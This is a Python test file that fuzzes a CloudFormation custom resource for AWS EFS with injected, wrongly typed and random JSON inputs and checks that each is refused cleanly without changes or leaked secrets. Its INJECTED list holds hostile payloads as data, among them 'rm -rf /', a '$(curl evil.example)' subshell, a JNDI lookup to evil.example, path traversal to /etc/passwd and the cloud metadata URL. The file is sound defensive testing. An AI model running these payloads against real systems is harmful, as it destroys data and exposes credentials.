"""Properties that are wrong in form: refused by name, nothing changed, one answer, no traceback."""

from __future__ import annotations

import logging
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.hostile.conftest import FIXED
from tests.hostile.sending import (
    Event,
    adoption_properties,
    event,
    no_secret,
    own_properties,
    refused_without_a_change,
    send,
    settle,
)
from tests.lab.lab import Lab, lab

INJECTED = {
    "shell": "fs-00000001; rm -rf /",
    "subshell": "$(curl evil.example)",
    "backtick": "`id`",
    "sql": "fs-00000001' OR '1'='1",
    "path": "../../etc/passwd",
    "file": "file:///etc/passwd",
    "url": "http://169.254.169.254/latest/meta-data/",
    "format": "%s%s%s%n",
    "braces": "{0.__class__.__mro__}",
    "jinja": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "cfn": "{{resolve:secretsmanager:x}}",
    "nul": "fs-00000001\x00",
    "newline": "fs-00000001\n",
    "crlf": "fs-00000001\r\nX: y",
    "escape": "\x1b[31mred",
    "wide digits": "fs-0000000１",  # noqa: RUF001
    "cyrillic": "fs-0000000а",  # noqa: RUF001
    "right to left": "fs-\u202e00000001",
    "lone surrogate": "fs-\ud800",
    "emoji": "💥" * 40,
    "long": "x" * 100_000,
    "long emoji": "💥" * 50_000,
    "upper case": "FS-00000001",
    "spaces": " fs-00000001 ",
    "empty": "",
    "wildcard": "*",
    "html": "<script>alert(1)</script>",
    "quote": '"},"Status":"SUCCESS',
    "backslash": "\\" * 3000,
}
WRONG_TYPES: dict[str, Any] = {
    "none": None,
    "number": 7,
    "float": 1.5,
    "true": True,
    "list": ["x"],
    "nested list": [[["x"]]],
    "mapping": {"x": {"y": "z"}},
    "list of none": [None],
    "empty list": [],
    "empty mapping": {},
    "huge": 10**400,
}
OWN_TEXTS = ("FileSystemId", "MountTargets.us-east-1a", "SecurityGroupIds.0", "WaitTimeoutSeconds", "AllowReplacement")
ADOPTED_TEXTS = (
    "FileSystemId",
    "SecurityGroupIds.0",
    "WaitTimeoutSeconds",
    "Adopt.VpcId",
    "Adopt.Subnets.us-east-1b",
    "Adopt.Clients.0",
    "Adopt.AccessPointIds.0",
    "Adopt.CreateMissing",
    "Adopt.RetainCreated",
    "Adopt.IpAddressType",
    "Adopt.OwnGroup",
)
# What CloudFormation sends as text may be what JSON calls a number or a boolean.
HARMLESS = {
    ("SecurityGroupIds", "empty list"),
    ("Tags", "empty list"),
    ("Adopt.Clients", "empty list"),
    ("Adopt.Severities", "empty mapping"),
    ("Adopt.AccessPointIds", "empty list"),
    *(
        (f"{place}", "true")
        for place in ("AllowReplacement", "Adopt.CreateMissing", "Adopt.RetainCreated", "Adopt.OwnGroup")
    ),
    ("WaitTimeoutSeconds", "number"),
}
PLACES_OWN = ("FileSystemId", "MountTargets", "SecurityGroupIds", "Tags", "WaitTimeoutSeconds", "AllowReplacement")
PLACES_ADOPTED = (
    *("FileSystemId", "SecurityGroupIds", "Tags", "WaitTimeoutSeconds", "Adopt"),
    *(f"Adopt.{key}" for key in adoption_properties()["Adopt"]),
)
MAY_BE_MISSING = {"KmsKeyArn"}


def changed(properties: Event, place: str, value: Any) -> Event:
    """The properties with another value at that place."""
    where: Any = properties
    *way, last = place.split(".")
    for step in way:
        where = where[int(step) if isinstance(where, list) else step]
    where[int(last) if isinstance(where, list) else last] = value
    return properties


@pytest.fixture
def ready(world: Lab) -> Lab:
    settle(world)
    return world


@pytest.mark.parametrize("injected", INJECTED.values(), ids=INJECTED)
@pytest.mark.parametrize("place", OWN_TEXTS)
def test_an_injected_text_is_refused_on_the_create_path(
    ready: Lab, place: str, injected: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    answer = refused_without_a_change(ready, event("Create", changed(own_properties(), place, injected)))
    assert answer is not None
    assert place.split(".", maxsplit=1)[0] in answer["Reason"]
    assert ready.aws.called == []
    no_secret(caplog)


@pytest.mark.parametrize("injected", INJECTED.values(), ids=INJECTED)
@pytest.mark.parametrize("place", ADOPTED_TEXTS)
def test_an_injected_text_is_refused_in_an_adoption(ready: Lab, place: str, injected: str) -> None:
    assert refused_without_a_change(ready, event("Create", changed(adoption_properties(), place, injected)))


@pytest.mark.parametrize("wrong", WRONG_TYPES, ids=WRONG_TYPES)
@pytest.mark.parametrize("place", PLACES_OWN)
def test_a_wrong_type_is_refused_on_the_create_path(ready: Lab, place: str, wrong: str) -> None:
    given = event("Create", changed(own_properties(), place, WRONG_TYPES[wrong]))
    if (place, wrong) in HARMLESS:
        assert send(ready, given)
    else:
        assert refused_without_a_change(ready, given)


@pytest.mark.parametrize("wrong", WRONG_TYPES, ids=WRONG_TYPES)
@pytest.mark.parametrize("place", PLACES_ADOPTED)
def test_a_wrong_type_is_refused_in_an_adoption(ready: Lab, place: str, wrong: str) -> None:
    given = event("Create", changed(adoption_properties(), place, WRONG_TYPES[wrong]))
    if (place, wrong) in HARMLESS or (place == "Adopt.Subnets" and wrong == "empty mapping"):
        assert send(ready, given)
    else:
        assert refused_without_a_change(ready, given)


@pytest.mark.parametrize("wrong", WRONG_TYPES.values(), ids=WRONG_TYPES)
@pytest.mark.parametrize("kind", ["Create", "Update", "Delete"])
def test_properties_that_are_no_mapping_are_answered(ready: Lab, kind: str, wrong: Any) -> None:
    given = event(kind, wrong, PhysicalResourceId="geuse-efs:fs-00000001")
    answer = send(ready, given)
    assert answer is None or "unexpected" not in answer["Reason"]
    assert ready.aws.tags_now() == {}


@pytest.mark.parametrize("key", ["Mystery", "filesystemid", "__proto__", "Adopt ", "x" * 5000, "💥", "\x00"])
@pytest.mark.parametrize("properties", [own_properties, adoption_properties], ids=["own", "adopted"])
def test_an_unknown_key_is_refused(ready: Lab, properties: Any, key: str) -> None:
    answer = refused_without_a_change(ready, event("Create", {**properties(), key: "x"}))
    assert answer is not None
    assert "is unknown" in answer["Reason"]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=6,
)


@FIXED
@given(place=st.sampled_from(PLACES_OWN), value=JSON, kind=st.sampled_from(["Create", "Update"]))
def test_any_json_at_any_place_of_the_create_path_ends_in_one_answer(place: str, value: Any, kind: str) -> None:
    with lab() as world:
        settle(world)
        answer = send(
            world, event(kind, changed(own_properties(), place, value), PhysicalResourceId="geuse-efs:fs-00000001")
        )
        assert answer is not None
        assert "unexpected" not in answer["Reason"]
        assert world.aws.tags_now() == {}


@FIXED
@given(place=st.sampled_from(PLACES_ADOPTED), value=JSON, kind=st.sampled_from(["Create", "Update", "Delete"]))
def test_any_json_at_any_place_of_an_adoption_ends_in_one_answer(place: str, value: Any, kind: str) -> None:
    with lab() as world:
        settle(world)
        given_event = event(
            kind, changed(adoption_properties(), place, value), PhysicalResourceId="geuse-efs:fs-00000001"
        )
        answer = send(world, given_event)
        assert answer is not None
        assert "unexpected" not in answer["Reason"]
        assert world.aws.mount_targets["fsmt-00000001"].groups == ["sg-f0000000"]


@pytest.mark.parametrize("number", [60, 300, 800])
def test_many_entries_end_in_an_answer_that_fits(ready: Lab, number: int) -> None:
    many = {f"zone-{place}": f"subnet-{place:08x}" for place in range(number)}
    assert refused_without_a_change(ready, event("Create", changed(adoption_properties(), "Adopt.Subnets", many)))
    tags = [{"key": f"key-{place}", "value": "x" * 256} for place in range(number)]
    assert send(ready, event("Create", changed(own_properties(), "Tags", tags)))
